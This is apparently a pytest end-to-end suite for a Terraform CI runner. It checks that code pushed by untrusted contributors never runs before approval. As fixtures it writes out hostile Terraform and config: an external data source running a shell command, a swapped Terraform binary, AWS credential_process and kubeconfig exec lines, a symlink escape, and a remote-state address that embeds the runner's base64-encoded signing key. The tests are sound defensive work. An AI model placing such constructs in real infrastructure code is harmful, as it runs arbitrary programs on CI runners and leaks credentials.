"""A push from somebody nobody trusts: the runner, which has the signing key, runs none of its code unasked."""

import json
import shutil
from pathlib import Path

import pytest

from tests.e2e.people import Team
from tests.e2e.sandbox import RESOURCE, Result, Sandbox, environment

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="no OpenSSH client"),
]

CHANGED = RESOURCE.replace("one", "two")
EXTERNAL = 'data "external" "x" {\n  program = ["sh", "-c", "touch $HOME/owned; echo {}"]\n}\n'
PLACE = "prod/main.tf:4: data.external.x runs a program"
LOOKS = 'data "terraform_remote_state" "x" {\n  backend = "s3"\n  config = { shared_config_files = ["x"] }\n}\n'
"""A data source of Terraform itself, which needs no provider, and that may start a program."""


@pytest.fixture
def team(sandbox: Sandbox) -> Team:
    made = Team(sandbox=sandbox)
    made.deployed()
    sandbox.starts()
    return made


def runs(team: Team) -> list[str]:
    """What Terraform was started for, beside saying its version."""
    return [line for line in team.sandbox.starts() if not line.startswith("version")]


def refused(team: Team, result: Result) -> str:
    assert (result.code, set(result.errors)) == (3, {"untrusted.code"}), result
    assert not (team.sandbox.home / "owned").exists()
    return result.messages


def rooted(team: Team, *lines: str) -> str:
    """The configuration with further lines in the environment."""
    return team.config().replace('roots = ["prod"]', "\n  ".join(['roots = ["prod"]', *lines]))


def test_attack_a_pushed_program_never_runs_in_a_sync(team: Team) -> None:
    team.sandbox.commit({"prod/main.tf": CHANGED + EXTERNAL, "prod/x.tf.json": '{"data": {"http": {"y": {}}}}'})
    for arguments in ((), ("--dry-run",), ("--replan",)):
        result = team.sandbox.sync(*arguments)
        said = refused(team, result)
        assert PLACE in said
        assert "prod/x.tf.json:1: data.http.y sends a request" in said
        assert "tfops sync prod --trust-code" in said
        assert result.outcomes == {"prod": "refused"}
    assert runs(team) == []


def test_attack_a_pushed_program_never_runs_in_a_plan_by_hand_or_a_scan_for_drift(team: Team) -> None:
    team.sandbox.commit({"prod/main.tf": CHANGED + EXTERNAL})
    assert PLACE in refused(team, team.sandbox.json("plan"))
    assert runs(team) == []
    scanned = team.sandbox.json("drift")
    assert "data.external.x runs a program" in json.dumps(scanned.json), scanned
    assert not (team.sandbox.home / "owned").exists()


def test_attack_a_pushed_binary_never_runs(team: Team) -> None:
    sandbox, evil = team.sandbox, team.sandbox.home / "evil"
    evil.write_text(f'#!/bin/sh\ntouch "{sandbox.home}/owned"\nexec "{sandbox.bin}/terraform" "$@"\n')
    evil.chmod(0o755)
    sandbox.commit(
        {"tfops.hcl": team.config(extra=f'terraform {{\n  binary = "{evil}"\n}}\n'), "prod/main.tf": CHANGED}
    )
    result = sandbox.sync(expect=3)
    assert f"the Terraform that runs is {evil} instead of what PATH has" in result.json["rules"]["changes"]
    for command in ("plan", "drift", "stacks", "doctor"):
        sandbox.json(command)
    assert not (sandbox.home / "owned").exists()
    team.approve_rules("alice", "bob")
    sandbox.sync()
    assert (sandbox.home / "owned").exists()


def test_attack_a_gate_taken_away_in_the_same_push_does_not_let_a_program_run(team: Team) -> None:
    bare = team.config().replace("approval { count = 2 }", "")
    for config in (bare, team.config(count=0)):
        team.sandbox.commit({"tfops.hcl": config, "prod/main.tf": CHANGED + EXTERNAL})
        assert PLACE in refused(team, team.sandbox.sync())


def test_attack_a_new_environment_without_a_gate_runs_nothing(team: Team) -> None:
    evil = environment("evil", count=0)
    team.sandbox.commit({"tfops.hcl": team.config(extra=evil), "evil/main.tf": EXTERNAL})
    said = refused(team, team.sandbox.sync())
    assert "evil/main.tf:1: data.external.x runs a program" in said
    assert 'environment "evil" is new' in said
    assert runs(team) == []


def test_attack_pushed_settings_choose_no_variables_no_credentials_and_no_installation(team: Team) -> None:
    team.sandbox.commit({"tfops.hcl": rooted(team, 'pass_env = ["SECRET"]', 'cli_config = "rc"'), "rc": ""})
    said = refused(team, team.sandbox.sync())
    assert 'tfops.hcl: environment "prod" changes pass_env' in said
    assert 'tfops.hcl: environment "prod" changes cli_config' in said
    assert "rc: says how Terraform installs providers, and is changed" in said
    assert runs(team) == []


def test_attack_a_pushed_provider_is_not_started(team: Team) -> None:
    place = "prod/terraform.d/plugins/registry.terraform.io/hashicorp/random/9.9.9/linux_amd64/terraform-provider-x"
    team.sandbox.commit({"prod/main.tf": CHANGED, place: "#!/bin/sh\n"})
    assert place in refused(team, team.sandbox.sync())
    assert runs(team) == []


def test_attack_a_foreign_module_is_refused_before_it_is_fetched(team: Team) -> None:
    team.sandbox.commit({"tfops.hcl": team.config(extra='review {\n  modules = ["acme/*"]\n}\n')})
    team.sandbox.sync()
    team.sandbox.starts()
    team.sandbox.commit({"prod/main.tf": 'module "m" {\n  source = "evil/vpc/aws"\n}\n'})
    assert "registry.terraform.io/evil/vpc/aws" in refused(team, team.sandbox.sync())
    assert runs(team) == []


def test_attack_a_fetched_module_is_looked_at_before_anything_of_it_runs(team: Team, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    team.sandbox.git("init", "-q", str(elsewhere))
    (elsewhere / "m.tf").write_text(LOOKS)
    team.sandbox.git("add", "-A", cwd=elsewhere)
    team.sandbox.git("commit", "-q", "-m", "m", cwd=elsewhere)
    team.sandbox.commit({"prod/main.tf": f'module "m" {{\n  source = "git::file://{elsewhere}"\n}}\n'})
    assert "downloaded/m/m.tf:1: data.terraform_remote_state.x" in refused(team, team.sandbox.sync())
    assert not [line for line in runs(team) if line.startswith("plan")]


HIDDEN = """locals {
  c = { bucket = "b", key = "k", region = "here", profile = "x", shared_config_files = ["aws.cfg"] }
}
data "terraform_remote_state" "hidden" {
  backend = "s3"
  config  = local.c
}
data "terraform_remote_state" "kubeconfig" {
  backend = "kubernetes"
  config  = { secret_suffix = "s", config_path = "kc.yaml" }
}
"""


def test_attack_a_remote_state_starts_no_program_of_a_file_beside_it(team: Team) -> None:
    """Files of AWS and Kubernetes name programs; an expression hides from readers that they are used."""
    files = {
        "prod/x.tf": HIDDEN,
        "prod/aws.cfg": "[profile x]\ncredential_process = touch owned\n",
        "prod/kc.yaml": "users: [{name: u, user: {exec: {command: touch, args: [owned]}}}]\n",
    }
    team.sandbox.commit(files)
    said = refused(team, team.sandbox.sync())
    assert "prod/x.tf:4: data.terraform_remote_state.hidden may start a program (config)" in said
    assert "prod/x.tf:8: data.terraform_remote_state.kubeconfig may start a program (config_path)" in said
    assert runs(team) == []


def test_attack_a_remote_state_sends_no_key_of_the_runner_anywhere(team: Team) -> None:
    address = f'"http://127.0.0.1:9/${{base64encode(file("{team.sandbox.key}"))}}"'
    code = f'data "terraform_remote_state" "x" {{\n  backend = "http"\n  config  = {{ address = {address} }}\n}}\n'
    team.sandbox.commit({"prod/x.tf": code})
    said = refused(team, team.sandbox.sync())
    assert "prod/x.tf:1: data.terraform_remote_state.x may send a request (address)" in said
    assert runs(team) == []


def test_attack_the_backend_settings_name_a_file_of_programs(team: Team) -> None:
    team.sandbox.commit({"tfops.hcl": rooted(team, 'backend_config = { config_path = "kc.yaml" }')})
    said = refused(team, team.sandbox.sync())
    assert 'tfops.hcl: backend_config of environment "prod" may start a program (config_path)' in said
    assert runs(team) == []


def test_attack_a_fetched_module_leads_by_a_link_back_to_code_that_was_no_module(team: Team, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    team.sandbox.git("init", "-q", str(elsewhere))
    (elsewhere / "m.tf").write_text('module "p" {\n  source = "./p"\n}\n')
    (elsewhere / "p").symlink_to("../../../tree/prod/payload")
    team.sandbox.git("add", "-A", cwd=elsewhere)
    team.sandbox.git("commit", "-q", "-m", "m", cwd=elsewhere)
    calls = f'module "m" {{\n  source = "git::file://{elsewhere}"\n}}\n'
    team.sandbox.commit({"prod/x.tf": calls, "prod/payload/main.tf": LOOKS})
    assert "downloaded/payload/main.tf:1: data.terraform_remote_state.x" in refused(team, team.sandbox.sync())
    assert not [line for line in runs(team) if line.startswith("plan")]


HONEST = """terraform {
  required_version = ">= 1.5"
}
variable "name" {
  default = "net"
}
data "terraform_remote_state" "net" {
  backend = "local"
  config  = { path = "${path.module}/${var.name}.tfstate" }
  count   = 0
}
"""


def test_honest_code_with_a_remote_state_is_planned_and_waits(team: Team) -> None:
    team.sandbox.commit({"prod/main.tf": CHANGED, "prod/x.tf": HONEST})
    result = team.sandbox.sync(expect=3)
    assert (result.outcomes, result.errors) == ({"prod": "waiting"}, [])


def test_attack_unapproved_code_sees_no_token_and_no_agent(team: Team) -> None:
    secrets = {"GITHUB_TOKEN": "t1", "SSH_AUTH_SOCK": "/tmp/agent"}
    shim, seen = team.sandbox.bin / "terraform", team.sandbox.home / "seen"
    shim.write_text(shim.read_text().replace("#!/bin/sh\n", f"#!/bin/sh\nenv >> '{seen}'\n", 1))
    team.sandbox.sync("--replan", env=secrets, expect=0)
    assert "GITHUB_TOKEN=t1" in seen.read_text()
    seen.unlink()
    team.sandbox.commit({"prod/main.tf": CHANGED})
    plan_id = team.sandbox.sync(env=secrets, expect=3)["prod"]["plan_id"]
    assert "GITHUB_TOKEN" not in seen.read_text()
    assert "SSH_AUTH_SOCK" not in seen.read_text()
    for person in ("alice", "bob"):
        assert team.approve(plan_id, person).code == 0
    seen.unlink()
    assert team.sandbox.sync(env=secrets, expect=0).outcomes == {"prod": "applied"}
    assert "GITHUB_TOKEN=t1" in seen.read_text()


READS = f"""{CHANGED}
data "terraform_remote_state" "x" {{
  backend = "s3"
  config  = {{ bucket = "b", key = "k", region = "r", shared_config_files = ["x"] }}
  count   = 0
}}
"""


def test_what_was_read_waits_with_its_plan_and_once_approved_goes_by_itself(team: Team) -> None:
    sandbox = team.sandbox
    sandbox.commit({"prod/main.tf": READS})
    refused(team, sandbox.sync())
    result = sandbox.sync("prod", "--trust-code", expect=3)
    assert (result.outcomes, result.errors) == ({"prod": "waiting"}, [])
    assert "--trust-code" in result.err
    plan_id, plans = result["prod"]["plan_id"], len(sandbox.plans("prod"))
    for arguments in ((), ("--dry-run",)):
        again = sandbox.sync(*arguments, expect=3)
        assert (again.outcomes, again.errors) == ({"prod": "waiting"}, [])
    assert len(sandbox.plans("prod")) == plans
    for person in ("alice", "bob"):
        assert team.approve(plan_id, person).code == 0
    assert sandbox.sync(expect=0).outcomes == {"prod": "applied"}


def test_attack_the_program_of_an_approved_line_is_changed_beside_it(team: Team) -> None:
    """The line was read, planned and approved before its merge, and goes by itself; what it starts is another file."""
    sandbox = team.sandbox
    team.change("pr", {"prod/main.tf": READS, "prod/x": "[default]\n"})
    planned = sandbox.json("plan", "--speculative", "--base", "main", "--head", "pr", "--trust-code")
    for person in ("alice", "bob"):
        assert team.approve(planned["prod"]["plan_id"], person).code == 0
    team.merge("pr")
    assert sandbox.sync(expect=0).outcomes == {"prod": "applied"}
    sandbox.commit({"prod/x": "[default]\ncredential_process = touch owned\n"})
    said = refused(team, sandbox.sync())
    assert "may start a program (shared_config_files); too few people approved prod/x to run that" in said


def test_what_was_read_and_changed_nothing_is_scanned_for_drift_and_what_came_after_is_not(team: Team) -> None:
    sandbox = team.sandbox
    sandbox.commit({"prod/more.tf": READS.replace(CHANGED, "")})
    refused(team, sandbox.sync())
    assert sandbox.sync("prod", "--trust-code", expect=0).outcomes == {"prod": "converged"}
    assert sandbox.json("drift").code == 0
    sandbox.commit({"prod/main.tf": CHANGED})
    scanned = sandbox.json("drift")
    assert "may start a program" in json.dumps(scanned.json), scanned
    assert "too few people approved prod/main.tf, prod/more.tf to run that" in refused(team, sandbox.sync())


def test_what_the_rules_allow_is_planned_and_waits(team: Team) -> None:
    sandbox = team.sandbox
    sandbox.commit({"tfops.hcl": team.config(extra='review {\n  allow = ["exec"]\n}\n')})
    team.approve_rules("alice", "bob")
    sandbox.commit({"prod/main.tf": READS})
    assert sandbox.sync(expect=3).outcomes == {"prod": "waiting"}


def test_where_nobody_has_to_approve_nothing_is_refused(sandbox: Sandbox) -> None:
    sandbox.one_stack(READS)
    assert sandbox.sync(expect=0).outcomes == {"dev": "applied"}


def test_where_nothing_is_ever_applied_by_itself_nothing_is_refused(sandbox: Sandbox) -> None:
    sandbox.stacks(environment("dev", count=None), {"dev/main.tf": READS})
    assert sandbox.sync(expect=3).outcomes == {"dev": "waiting"}


def test_trusting_code_names_the_stacks_that_were_read(team: Team) -> None:
    assert team.sandbox.sync("--trust-code").errors == ["usage.trust_code"]


def test_attack_settings_are_held_against_a_branch_that_somebody_made_up(team: Team) -> None:
    """The branch says already what the change would bring, so against it nothing changes."""
    config = rooted(team, 'pass_env = ["SECRET"]', 'cli_config = "rc"').replace('branch = "main"', 'branch = "sly"')
    team.change("sly", {"tfops.hcl": config, "rc": ""})
    team.change("evil", {"tfops.hcl": config, "rc": "", "prod/main.tf": CHANGED})
    result = team.sandbox.json("plan", "--speculative", "--base", "sly", "--head", "evil")
    said = refused(team, result)
    assert 'environment "prod" changes pass_env' in said
    assert "rc: says how Terraform installs providers, and is changed" in said
    assert runs(team) == []
